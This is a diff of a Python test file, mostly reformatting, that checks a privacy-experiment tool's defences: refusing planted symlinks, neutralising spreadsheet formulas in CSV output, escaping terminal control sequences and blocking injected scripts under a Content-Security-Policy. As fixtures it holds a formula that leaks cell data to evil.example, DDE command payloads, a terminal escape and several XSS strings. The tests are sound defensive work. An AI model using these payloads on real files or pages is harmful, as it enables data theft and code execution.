@@ -14,17 +14,16 @@ from pathlib import Path
 import optuna
 import pandas as pd
 import pytest
-from optuna.distributions import CategoricalDistribution
-from optuna.trial import TrialState
-
 import report_study
+from optuna.distributions import CategoricalDistribution
+from test_report_browser import CHROMIUM, FLAGS, chromium  # noqa: F401  (chromium: a fixture)
+
+from search._runs import result_documents, save_results
 from search.cli import main
 from search.cli._common import printable
-from search._runs import result_documents, save_results
 from search.results._html import content_security_policy
 from search.results._report import plain, write_report
 from search.study import open_study
-from test_report_browser import CHROMIUM, FLAGS, chromium  # noqa: F401  (chromium: a fixture)
 from wemem.config import ExperimentConfig
 from wemem.files import csv_text, write_into
 
@@ -32,8 +31,12 @@ TARGET = "outside: must stay as it is\n"
 TITLE_CHANGE = "\x1b]0;pwned\x07"  # xterm's "set the window title"
 CLEAR_SCREEN = "\x1b[2J"
 MATH = "$\\frac{$"  # two dollars: matplotlib would parse it as mathtext, and reject it
-FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+)
 
 
 def run_cli(argv: list[str]) -> int:
@@ -54,13 +57,25 @@ def planted(folder: Path, name: str) -> tuple[Path, Path]:
 
 def hostile_trial(study: optuna.Study, defense: str, attack: str, param: str, privacy: float = 0.5) -> None:
     """A completed trial, best of the study, whose every stored string is ``defense``, ``attack`` or ``param``."""
-    study.add_trial(optuna.trial.create_trial(
-        params={f"{defense}.{param}": param}, distributions={f"{defense}.{param}": CategoricalDistribution([param])},
-        values=[privacy], constraints={"utility_drop": -0.1},
-        user_attrs={"defense": defense, "settings": {param: param}, "utility": 0.81, "privacy": privacy,
-                    "strongest_attack": attack, "feasible": True, "defense_seconds": 1.0,
-                    "attacks": {attack: report_study.attack_metrics(0.5)["conf"]},
-                    "timings": report_study.timings(10.0)}))
+    study.add_trial(
+        optuna.trial.create_trial(
+            params={f"{defense}.{param}": param},
+            distributions={f"{defense}.{param}": CategoricalDistribution([param])},
+            values=[privacy],
+            constraints={"utility_drop": -0.1},
+            user_attrs={
+                "defense": defense,
+                "settings": {param: param},
+                "utility": 0.81,
+                "privacy": privacy,
+                "strongest_attack": attack,
+                "feasible": True,
+                "defense_seconds": 1.0,
+                "attacks": {attack: report_study.attack_metrics(0.5)["conf"]},
+                "timings": report_study.timings(10.0),
+            },
+        )
+    )
 
 
 # ------------------------------------------------------------------------------- links planted in --out
@@ -101,8 +116,16 @@ def test_no_file_name_reaches_through_a_subfolder(tmp_path: Path):
 
 def test_apply_refuses_a_link_planted_in_its_out_folder_before_any_work(tmp_path: Path, capsys):
     link, target = planted(tmp_path / "applied", "model.pt")
-    code = run_cli(["apply", str(tmp_path / "never-read.toml"), "--out", str(tmp_path / "applied"),
-                    "--storage", f"sqlite:///{tmp_path / 'wemem.db'}"])
+    code = run_cli(
+        [
+            "apply",
+            str(tmp_path / "never-read.toml"),
+            "--out",
+            str(tmp_path / "applied"),
+            "--storage",
+            f"sqlite:///{tmp_path / 'wemem.db'}",
+        ]
+    )
     err = capsys.readouterr().err
     assert code == 2 and f"cannot write {link}: it is a link to ../{target.name}" in err, err
     assert target.read_text() == TARGET and link.is_symlink()
@@ -110,8 +133,18 @@ def test_apply_refuses_a_link_planted_in_its_out_folder_before_any_work(tmp_path
 
 def test_run_refuses_a_link_planted_beside_its_results_before_any_work(tmp_path: Path, capsys):
     link, target = planted(tmp_path / "out", "results.csv")
-    code = run_cli(["run", "--serial", "--out", str(tmp_path / "out" / "results"),
-                    "--cache-dir", str(tmp_path / "cache"), "--storage", f"sqlite:///{tmp_path / 'wemem.db'}"])
+    code = run_cli(
+        [
+            "run",
+            "--serial",
+            "--out",
+            str(tmp_path / "out" / "results"),
+            "--cache-dir",
+            str(tmp_path / "cache"),
+            "--storage",
+            f"sqlite:///{tmp_path / 'wemem.db'}",
+        ]
+    )
     err = capsys.readouterr().err
     assert code == 2 and f"cannot write {link}: it is a link to ../{target.name}" in err, err
     assert target.read_text() == TARGET and not (tmp_path / "cache").exists()
@@ -145,8 +178,15 @@ def test_formulas_stored_in_a_study_are_text_in_trials_csv(tmp_path: Path):
 
 
 def test_formulas_in_run_results_are_text_in_its_csv():
-    table = pd.DataFrame({"run": list(FORMULAS), "defense": list(FORMULAS), "sparsity": [-0.5, 0.0, 0.5, 1.0],
-                          "member_targets": [-2, 3, 4, 5], "attack": ["conf"] * 4})
+    table = pd.DataFrame(
+        {
+            "run": list(FORMULAS),
+            "defense": list(FORMULAS),
+            "sparsity": [-0.5, 0.0, 0.5, 1.0],
+            "member_targets": [-2, 3, 4, 5],
+            "attack": ["conf"] * 4,
+        }
+    )
     written = pd.read_csv(io.StringIO(result_documents(ExperimentConfig(), [], [], table)[1]))
     assert_neutralized(written, "run")
     assert_neutralized(written, "defense")
@@ -161,7 +201,17 @@ def test_every_formula_start_is_neutralized_in_a_text_column_and_a_header():
     assert text.startswith("'=cmd,n\r\n")
     assert '"a\r=1"' in text and '"b\n=1"' in text  # quoted: a line break inside a cell starts no row of its own
     assert list(pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False)["'=cmd"]) == [
-        "'=1", "'+1", "'-1", "'@1", "'\t=1", "'\r=1", "plain", "", "a\r=1", "b\n=1"]
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@1",
+        "'\t=1",
+        "'\r=1",
+        "plain",
+        "",
+        "a\r=1",
+        "b\n=1",
+    ]
 
 
 # ------------------------------------------------------------------------------- the terminal, the plots
@@ -174,7 +224,7 @@ def test_status_prints_control_sequences_from_the_storage_escaped(tmp_path: Path
     for argv in (["status", "audit"], ["status", "audit", "--trial", "4"], ["status"]):
         assert run_cli([*argv, "--storage", options.storage]) == 0
         out, err = capsys.readouterr()
-        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err), (out + err)
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err), out + err
     assert run_cli(["status", "audit", "--storage", options.storage]) == 0
     out = capsys.readouterr().out
     assert r"best trial #4: defense \x1b]0;pwned\x07rsw\x1b[2J" in out  # visible, inert
@@ -209,19 +259,32 @@ def console(chromium: str, page: str, work: Path) -> tuple[str, str]:
     console, where each Content-Security-Policy violation is reported."""
     path = work / f"page-{len(list(work.glob('page-*')))}.html"
     path.write_text(page)
-    done = subprocess.run([chromium, *FLAGS, f"--user-data-dir={work / 'profile'}", "--enable-logging=stderr",
-                           "--log-level=0", "--dump-dom", path.as_uri() + "#sort=-privacy"],
-                          capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [
+            chromium,
+            *FLAGS,
+            f"--user-data-dir={work / 'profile'}",
+            "--enable-logging=stderr",
+            "--log-level=0",
+            "--dump-dom",
+            path.as_uri() + "#sort=-privacy",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 0, done.stderr[-2000:]
     return done.stdout, done.stderr
 
 
 # each would append a word to the title if it ran: a script, and handlers firing without a click
-INJECTED = ('<script>document.title += " script"</script>'
-            '<button onclick="document.title += \' click\'" autofocus onfocus="this.click()">x</button>'
-            '<img src="data:," onerror="document.title += \' onerror\'">'
-            '<svg onload="document.title += \' svg\'"></svg>'
-            '<details open ontoggle="document.title += \' toggle\'"><summary>x</summary></details>')
+INJECTED = (
+    '<script>document.title += " script"</script>'
+    '<button onclick="document.title += \' click\'" autofocus onfocus="this.click()">x</button>'
+    '<img src="data:," onerror="document.title += \' onerror\'">'
+    "<svg onload=\"document.title += ' svg'\"></svg>"
+    "<details open ontoggle=\"document.title += ' toggle'\"><summary>x</summary></details>"
+)
 
 
 def title(dom: str) -> str:
@@ -238,8 +301,9 @@ def test_the_pages_own_style_and_sort_script_run_under_its_policy(chromium, repo
     assert "Content Security Policy" not in log  # the hashes admit the page's <style> and <script>
 
 
-def test_an_injected_script_or_inline_handler_does_not_run_under_the_pages_policy(chromium, report_page: str,
-                                                                                  tmp_path: Path):
+def test_an_injected_script_or_inline_handler_does_not_run_under_the_pages_policy(
+    chromium, report_page: str, tmp_path: Path
+):
     csp = f'<meta http-equiv="Content-Security-Policy" content="{content_security_policy()}">'
     assert csp in report_page
     attacked = report_page.replace("<body>", f"<body>{INJECTED}", 1)
@@ -265,8 +329,9 @@ def with_handler(monkeypatch, cli, handler) -> None:
     """``wemem status`` running ``handler`` instead (the command line's own handling around it unchanged)."""
     import dataclasses
 
-    monkeypatch.setattr(cli, "COMMANDS", tuple(dataclasses.replace(c, run=handler) if c.name == "status" else c
-                                               for c in cli.COMMANDS))
+    monkeypatch.setattr(
+        cli, "COMMANDS", tuple(dataclasses.replace(c, run=handler) if c.name == "status" else c for c in cli.COMMANDS)
+    )
 
 
 def test_a_warning_naming_a_received_column_prints_escaped(tmp_path, monkeypatch, capsys):
